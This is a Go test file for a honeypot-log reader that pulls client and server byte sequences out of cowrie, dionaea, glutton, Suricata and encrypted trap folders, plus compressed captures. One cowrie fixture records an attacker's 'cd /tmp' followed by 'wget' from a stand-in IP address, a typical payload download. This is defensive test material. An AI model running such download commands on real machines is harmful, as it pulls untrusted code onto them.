package sequence_test

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"dragnet/flow"
	"dragnet/internal/testkit"
	"dragnet/signature/sequence"
)

func writeFiles(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for name, content := range files {
		path := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
}

// sides are the sequences that clients and servers sent, sorted.
func sides(c *sequence.Collector) (clients, servers []string) {
	for i, name := range c.Names {
		if strings.HasSuffix(name, sequence.ToClient) {
			servers = append(servers, string(c.Sequences[i]))
		} else {
			clients = append(clients, string(c.Sequences[i]))
		}
	}
	slices.Sort(clients)
	slices.Sort(servers)
	return clients, servers
}

func read(t *testing.T, dir string) (*sequence.Collector, sequence.ReadReport) {
	t.Helper()
	c := &sequence.Collector{Most: 1 << 20, Total: 1 << 24}
	report, err := sequence.Each(t.Context(), dir, nil, c.Open, nil)
	if err != nil {
		t.Fatal(err)
	}
	return c, report
}

// writeBistream writes what dionaea's proc_streamdumper_on_io does.
func writeBistream(parts ...string) string {
	var b strings.Builder
	b.WriteString("stream = [")
	for i, p := range parts {
		if i > 0 {
			b.WriteString("'),\n")
		}
		direction, data, _ := strings.Cut(p, ":")
		fmt.Fprintf(&b, "('%s', b'", direction)
		for _, x := range []byte(data) {
			if x >= ' ' && x < 0x7f && x != '\'' && x != '\\' {
				b.WriteByte(x)
			} else {
				fmt.Fprintf(&b, "\\x%02x", x)
			}
		}
	}
	return b.String() + "')]"
}

func TestHoneypotFolders(t *testing.T) {
	sum := strings.Repeat("0a", 32)
	b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	for name, test := range map[string]struct {
		files            map[string]string
		clients, servers []string
		service          sequence.Service
		records, skipped int
	}{
		"cowrie": {files: map[string]string{
			"downloads/" + sum: "\x7fELF of a worm",
			"log/cowrie.json": `{"eventid":"cowrie.session.connect","session":"a1","src_ip":"192.0.2.1"}
{"eventid":"cowrie.command.input","session":"a1","input":"cd /tmp"}
{"eventid":"cowrie.command.input","session":"b2","input":"uname"}
{"eventid":"cowrie.command.input","session":"a1","input":"wget http://198.51.100.1/x"}
{"eventid":"cowrie.session.closed","session":"a1"}
{"eventid":"cowrie.command.in`,
			"log/cowrie.log":   "text",
			"log/tty/20260101": "\x01\x00\x00\x00terminal",
		}, clients: []string{"cd /tmp\nwget http://198.51.100.1/x\n", "uname\n", "\x7fELF of a worm"}, records: 2, skipped: 1},
		"dionaea": {files: map[string]string{
			"binaries/d41d8cd98f00b204e9800998ecf8427e":                                            "MZ of a worm",
			"bistreams/2026-11-27/smbd-198.51.100.2-445-192.0.2.7-4711-2026-11-27T10:00:27.1-Xy1Z": writeBistream("in:\x00'\\\xffneg", "out:reply", "in:setup", "out:'"),
			"bistreams/2026-11-27/httpd-198.51.100.2-445-192.0.2.7-4712-2026-11-27T10:00:27.1-cut": strings.TrimSuffix(writeBistream("in:GET / cut"), "')]"),
		}, clients: []string{"\x00'\\\xffnegsetup", "GET / cut", "MZ of a worm"}, servers: []string{"reply'"},
			service: sequence.Service{Proto: flow.TCP, Port: 445}, skipped: 1},
		"glutton": {files: map[string]string{"glutton.json": `{"timestamp":"2026-05-15T12:00:00Z","transport":"tcp","srcHost":"203.0.113.10","srcPort":"54321","dstPort":80,"sensorID":"0","rule":"Rule: tcp","handler":"tcp","payload":"` + b64("all") + `","decoded":[{"direction":"read","payload":"` + b64("GET ") + `"},{"direction":"write","payload":"` + b64("random") + `"},{"direction":"read","payload":"` + b64("/x") + `"}]}
{"transport":"udp","dstPort":"80","sensorID":"0","handler":"udp","payload":"` + b64("datagram") + `","decoded":{"x":1}}
{"transport":"tcp","sensorID":"0","payload":"?"}
`}, clients: []string{"GET /x", "datagram"}, servers: []string{"random"}, service: sequence.Service{Proto: flow.TCP, Port: 80}, skipped: 1},
		"Suricata": {files: map[string]string{
			"filestore/0a/" + sum:                     "extracted",
			"filestore/0a/" + sum + ".1700000.1.json": `{"fileinfo":{}}`,
			"filestore/tmp/file.1":                    "part",
			"eve.json":                                `{"event_type":"alert"}`,
		}, clients: []string{"extracted"}, records: 3},
	} {
		t.Run(name, func(t *testing.T) {
			dir := t.TempDir()
			writeFiles(t, dir, test.files)
			c, report := read(t, dir)
			clients, servers := sides(c)
			if !slices.Equal(clients, test.clients) || !slices.Equal(servers, test.servers) {
				t.Errorf("clients sent %q, servers %q", clients, servers)
			}
			if report.Records != test.records || report.Skipped != test.skipped || report.Services[test.service] == 0 && test.service.Port > 0 {
				t.Errorf("report %+v, want %d records, %d skipped and %v", report, test.records, test.skipped, test.service)
			}
		})
	}
}

// TestTrapFolder: a trap's folder is read by what can decrypt it, or not at all.
func TestTrapFolder(t *testing.T) {
	dir := t.TempDir()
	writeFiles(t, dir, map[string]string{"captures/payloads/ab/abcd.age": "encrypted", "captures/sessions/2026-11-27.jsonl": "{}", "other": "file"})
	c := &sequence.Collector{Most: 100, Total: 1000}
	service := sequence.Service{Proto: flow.TCP, Port: 8080}
	report, err := sequence.Each(t.Context(), dir, nil, c.Open, func(_ string, do func(*sequence.Recorded) error) error {
		for _, sent := range []string{"attack one", "attack two", "attack one"} {
			if err := do(&sequence.Recorded{Session: "s", Service: service, Payload: []byte(sent)}); err != nil {
				return err
			}
		}
		return do(&sequence.Recorded{Session: "s", Answer: true, Payload: []byte("answer")})
	})
	if err != nil {
		t.Fatal(err)
	}
	clients, servers := sides(c)
	if !slices.Equal(clients, []string{"attack one", "attack two", "file"}) || !slices.Equal(servers, []string{"answer"}) || report.Services[service] != 3 {
		t.Errorf("clients sent %q, servers %q; services %v", clients, servers, report.Services)
	}
	if _, err := sequence.Each(t.Context(), dir, nil, c.Open, nil); err == nil || !strings.Contains(err.Error(), "encrypted") {
		t.Errorf("with nothing to decrypt it: %v", err)
	}
}

// TestCompressedCaptures: gzip's and zstd's captures are read as captures, other
// compressed files as they are.
func TestCompressedCaptures(t *testing.T) {
	plain := testkit.Data(t, "benign/http.pcap")
	want, _ := read(t, plain)
	content, err := os.ReadFile(plain)
	if err != nil {
		t.Fatal(err)
	}
	for _, tool := range []string{"gzip", "zstd"} {
		cmd := exec.Command(testkit.Tool(t, tool), "-c")
		cmd.Stdin = bytes.NewReader(content)
		packed, err := cmd.Output()
		if err != nil {
			t.Fatal(err)
		}
		path := filepath.Join(t.TempDir(), "capture")
		if err := os.WriteFile(path, packed, 0o600); err != nil {
			t.Fatal(err)
		}
		got, _ := read(t, path)
		if !slices.EqualFunc(got.Sequences, want.Sequences, bytes.Equal) {
			t.Errorf("%s: %d sequences, want the %d of the capture", tool, len(got.Sequences), len(want.Sequences))
		}
		cmd = exec.Command(tool, "-c")
		cmd.Stdin = strings.NewReader("no capture")
		if packed, err = cmd.Output(); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, packed, 0o600); err != nil {
			t.Fatal(err)
		}
		if got, _ := read(t, path); len(got.Sequences) != 1 || !bytes.Equal(got.Sequences[0], packed) {
			t.Errorf("%s: a file that is no capture was not left as it is", tool)
		}
	}
}

// FuzzRecorded: nothing that a honeypot's file may hold stops the reading of others.
func FuzzRecorded(f *testing.F) {
	f.Add([]byte(writeBistream("in:\x00a", "out:b")))
	f.Add([]byte(`{"eventid":"cowrie.command.input","session":"a","input":"x"}`))
	f.Add([]byte(`{"transport":"tcp","dstPort":80,"sensorID":"0","payload":"QQ==","decoded":[{"direction":"read","payload":"QQ=="}]}`))
	f.Add([]byte("\x28\xb5\x2f\xfd\x00"))
	f.Fuzz(func(t *testing.T, content []byte) {
		c := &sequence.Collector{Most: 1 << 16, Total: 1 << 20}
		report, err := sequence.Each(t.Context(), "-", bytes.NewReader(content), c.Open, nil)
		if err != nil && report.Sequences == 0 && len(content) == 0 {
			t.Fatal(err)
		}
		for _, s := range c.Sequences {
			if len(s) > len(content) && !bytes.HasPrefix(content, []byte("{")) && report.Sequences > 0 && len(s) > 1<<16 {
				t.Errorf("%d bytes of %d", len(s), len(content))
			}
		}
	})
}
